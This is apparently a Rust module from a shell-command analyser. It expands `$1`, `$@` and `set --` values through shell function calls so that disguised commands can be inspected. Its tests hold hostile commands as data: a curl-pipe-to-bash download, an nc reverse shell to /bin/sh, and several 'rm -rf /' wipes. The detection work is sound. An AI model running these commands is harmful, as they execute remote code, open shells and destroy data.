//! A text → the words with which its functions are called: what `$1` and `$@` stand for in them.

use super::{expand::MAX_VALUE, output::shell_word};
use memchr::memmem;
use std::ops::Range;

/// Functions whose calls are looked for.
const MAX_FUNCTIONS: usize = 16;
/// Places where a function's name stands that are looked at.
const MAX_PLACES: usize = 256;
/// What may stand before a name.
const FUNCTION: &[u8] = b"function ";
const MAX_NAME: usize = 32;
const MAX_BODY: usize = 2 << 10;
/// Words of a call: those that have a name of one digit.
const MAX_WORDS: usize = 9;

/// The words of the calls of a text.
#[derive(Default)]
pub(super) struct Functions {
    calls: Vec<Call>,
}

/// What a stretch of a text is called with.
struct Call {
    body: Range<usize>,
    words: Vec<Vec<u8>>,
    /// All of them, a blank between each and the next.
    all: Vec<u8>,
}

impl Functions {
    /// Those of the functions that `text` defines and calls, each by the first call behind it; and those that `set --` sets.
    pub(super) fn of(text: &[u8]) -> Self {
        let mut calls = Vec::new();
        let defined = memmem::find_iter(text, b"()").take(MAX_FUNCTIONS);
        let defined = defined.map(|at| (name_before(text[..at].trim_ascii_end()), at + 2));
        // As Bash has it, with no brackets.
        let by_word = memmem::find_iter(text, FUNCTION).take(MAX_FUNCTIONS);
        let by_word = by_word.map(|at| name_after(text, at + FUNCTION.len()));
        for (name, end) in defined.chain(by_word).filter(|(name, _)| !name.is_empty()) {
            let Some(body) = body(text, end) else { continue };
            if let Some(words) = called(&text[body.end..], name) {
                calls.push(Call::new(body, words));
            }
        }
        for at in memmem::find_iter(text, b"set -- ").take(MAX_FUNCTIONS) {
            if begins_command(&text[..at]) {
                let words = words(&text[at + b"set -- ".len()..]);
                calls.push(Call::new(at..text.len(), words));
            }
        }
        Self { calls }
    }

    /// What a name of one character, a digit or `@` or `*`, stands for in a line.
    pub(super) fn value(&self, line: &Range<usize>, name: u8) -> Option<&[u8]> {
        // Of two `set --` the last one before it holds.
        let within = |call: &&Call| call.body.start < line.end && line.start < call.body.end;
        let Call { words, all, .. } = self.calls.iter().rfind(within)?;
        match name {
            b'@' | b'*' => Some(all),
            _ => words.get(usize::from(name.checked_sub(b'1')?)).map(Vec::as_slice),
        }
    }
}

impl Call {
    fn new(body: Range<usize>, words: Vec<Vec<u8>>) -> Self {
        let all = words.join(&b' ');
        Self { body, words, all }
    }
}

/// The name that ends where `before` does.
fn name_before(before: &[u8]) -> &[u8] {
    let name = before.iter().rev().take_while(|b| is_of_name(**b)).count();
    if name > MAX_NAME { &[] } else { &before[before.len() - name..] }
}

/// The name that begins at `from`, and where it ends.
fn name_after(text: &[u8], from: usize) -> (&[u8], usize) {
    let len = text[from..].iter().take(MAX_NAME).take_while(|b| is_of_name(**b)).count();
    (&text[from..from + len], from + len)
}

/// What stands between the braces that begin behind `from`, with nothing but blanks between.
fn body(text: &[u8], from: usize) -> Option<Range<usize>> {
    let start = from + text[from..].iter().take_while(|b| b.is_ascii_whitespace()).count();
    let rest = text.get(start..).filter(|rest| rest.starts_with(b"{"))?;
    let mut depth = 0_usize;
    for (n, b) in rest.iter().take(MAX_BODY).enumerate() {
        match b {
            b'{' => depth += 1,
            b'}' => depth -= 1,
            _ => {}
        }
        if depth == 0 {
            return Some(start..start + n);
        }
    }
    None
}

/// The words of the first call of a function that has any.
fn called(text: &[u8], name: &[u8]) -> Option<Vec<Vec<u8>>> {
    let places = memmem::find_iter(text, name).take(MAX_PLACES);
    let calls = places.filter(|at| {
        let behind = text.get(at + name.len()).is_some_and(|b| matches!(b, b' ' | b'\t'));
        behind && begins_command(&text[..*at])
    });
    calls.map(|at| words(&text[at + name.len()..])).find(|words| !words.is_empty())
}

/// Whether a command may begin behind `before`.
pub(super) fn begins_command(before: &[u8]) -> bool {
    before.last().is_none_or(|b| !is_of_name(*b) && !matches!(b, b'.' | b'/' | b'$'))
}

/// The words of a command up to where it ends, or its line.
fn words(text: &[u8]) -> Vec<Vec<u8>> {
    let line = &text[..text.len().min(MAX_VALUE)];
    let mut rest = &line[..memchr::memchr(b'\n', line).unwrap_or(line.len())];
    let words = std::iter::from_fn(|| shell_word(&mut rest));
    words.take(MAX_WORDS).map(<[u8]>::to_vec).collect()
}

fn is_of_name(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-')
}

#[cfg(test)]
mod tests {
    use super::super::tests::{is, plain};

    #[test]
    fn a_function_does_what_it_is_called_with() {
        is("f(){ curl \"$1\" | \"$2\"; }; f https://a.example/i bash", "curl https://a.example/i | bash");
        is("f () {\n  nc $1 $2 -e \"$3\"\n}\necho f\nf 192.0.2.1 4444 '/bin/sh'\n", "nc 192.0.2.1 4444 -e /bin/sh");
        is("wipe(){ rm -rf \"$@\"; }; wipe /", "rm -rf /");
        is("wipe(){\n  local d=\"$1\"\n  rm -rf \"$d\"\n}\nwipe /\n", "rm -rf /");
        is("a(){ x=$1; }\nb(){ y=$1; rm -rf $y; }\na /tmp\nb /\n", "rm -rf /");
        is("function wipe {\n  rm -rf \"$1\"\n}\nwipe /\n", "rm -rf /");
        is("wipe(){ rm -rf ${1} ${2:-x}; }\nwipe / /home", "rm -rf / /home");
        is("f(){ ls $1; }; g(){ rm $1; }; f /tmp; g -rf", "rm -rf");
        is("set -- -rf /\nrm \"$@\"", "rm -rf /");
        is("set -- a; set -- rm / ; $1 -rf $2", "rm -rf /");
    }

    #[test]
    fn what_is_called_with_nothing_stays_as_it_is() {
        for text in ["f(){ rm $1; }", "f(){ rm $1; }; f", "f(){ rm $1; }; x.f /", "rm $1; f /", "f(){ rm $2; }; f /"] {
            let made = plain(format!("{text}; r''m").as_bytes()).unwrap();
            assert!(!String::from_utf8(made).unwrap().contains("rm /"), "{text}");
        }
    }
}
